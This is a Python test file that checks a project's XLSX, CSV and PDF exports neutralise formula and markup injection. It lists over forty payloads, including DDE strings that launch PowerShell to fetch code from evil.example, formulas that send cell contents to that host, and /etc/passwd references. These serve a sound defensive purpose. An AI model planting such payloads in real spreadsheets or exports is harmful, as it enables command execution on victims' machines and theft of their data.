"""Formula injection: at least forty texts, in every field of every export, never give a formula nor a link."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import openpyxl
import pytest

from pacte.exchange.documents import plan_csv, plan_pdf, plan_xlsx
from pacte.exchange.documents.formula_guard import unescape_formula
from pacte.kernel.action_codes import ActionCode
from tests.exchange.documents.plans import with_text

PAYLOADS = (
    "=1+1",
    "=1+1+cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.example)'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"cliquez")',
    '=IMPORTXML(CONCAT("http://evil.example?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "='file:///etc/passwd'#$passwd.A1",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "+33612345678+1",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "--1",
    "@SUM(1+1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\t@SUM(A1)",
    "\r=1+1",
    "\r\n=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    '";=1+1',
    '","=1+1","',
    "a;=1+1",
    "a\n=1+1",
    "{=1+1}",
    "<script>=1</script>",
    "http://evil.example/?a=1",
    "mailto:x@evil.example",
    "internal:Notes!A1",
    "%0A=1+1",
    "|calc",
)
KEPT = ("+33612345678", "-1200.50", "-", "'", "'-", "0612345678", "1-1", "012", "1E5")
STARTERS = tuple("=+-@＝＋－＠\t\r\n\x00")


def test_there_are_at_least_forty() -> None:
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_the_workbook_is_a_formula_or_a_link(payload: str) -> None:
    data = plan_xlsx.write(with_text(payload))
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink]
    shown = payload.replace("\r\n", "\n").replace("\r", "\n").replace("\x00", "")
    assert any(cell.value == shown for cell in cells)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets"))
    assert b"<f>" not in parts
    assert b"hyperlink" not in parts


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_the_csv_starts_as_a_formula_does(payload: str) -> None:
    text = plan_csv.write(with_text(payload)).decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in line]
    assert not [cell for cell in cells if cell.startswith(STARTERS) and cell.strip() not in ("", "-")]
    shown = payload.replace("\r\n", "\n").replace("\r", "\n").replace("\x00", "")
    assert shown in [unescape_formula(cell) for cell in cells]


@pytest.mark.parametrize("text", KEPT)
def test_harmless_texts_come_back_as_they_went(text: str) -> None:
    raw = plan_csv.write(with_text(text)).decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(raw, newline=""), delimiter=";") for cell in line]
    assert text in [unescape_formula(cell) for cell in cells]
    book = openpyxl.load_workbook(io.BytesIO(plan_xlsx.write(with_text(text))))
    assert book.worksheets[0]["J7"].value == text


@pytest.mark.parametrize(
    "payload", ['#import "/etc/passwd"', "$x$", "#[gras]", "<label>", "@ref", "*gras*", "\\", "// note"]
)
def test_a_text_is_never_markup_on_paper(payload: str) -> None:
    data = plan_pdf.write_action_pdf(with_text(payload), ActionCode(7), as_of=date(2024, 3, 1), version_label=payload)
    assert data.startswith(b"%PDF")
